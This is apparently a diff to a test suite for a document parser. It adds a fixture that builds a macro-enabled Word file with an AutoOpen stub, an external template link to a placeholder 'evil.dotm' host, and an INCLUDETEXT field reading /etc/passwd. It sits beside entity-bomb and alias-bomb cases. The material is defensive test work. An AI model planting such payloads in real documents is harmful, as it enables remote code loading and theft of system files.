@@ -103,6 +103,19 @@ def pdf_encrypted() -> bytes:
     )
 
 
+def macros() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as file:
+        file.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 Sub AutoOpen()")
+        link = '<Relationship Id="x" Type="attachedTemplate" TargetMode="External" Target="http://192.0.2.1/evil.dotm"/>'
+        file.writestr("word/_rels/settings.xml.rels", f"<Relationships>{link}</Relationships>")
+        field = "<w:instrText>INCLUDETEXT file:///etc/passwd</w:instrText>"
+        file.writestr(
+            "word/document.xml", f"<w:document {WORD}><w:body><w:p><w:r>{field}<w:t>Own</w:t></w:r></w:p></w:body></w:document>"
+        )
+    return buffer.getvalue()
+
+
 def alias_bomb() -> bytes:
     lines = ["a0: &a0 [you, own, it]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 40)]
     return "\n".join(lines).encode()
@@ -114,6 +127,7 @@ CASES: dict[str, tuple[str, Callable[[], bytes], str | None]] = {
     "entity bomb": ("a.docx", entity_bomb, "declares entities, as no word processor does"),
     "external entity": ("a.docx", external_entity, "declares entities, as no word processor does"),
     "deep xml": ("a.docx", deep_xml, "is larger or nested deeper than any posting"),
+    "macros and links to outside": ("a.docm", macros, None),
     "many parts": ("a.docx", many_parts, "has 6,000 parts"),
     "pdf that holds itself": ("a.pdf", pdf_loop, "has 1,000,000 pages, more than 60"),
     "pdf form that draws itself": ("a.pdf", pdf_form_loop, "is too much for the PDF library"),
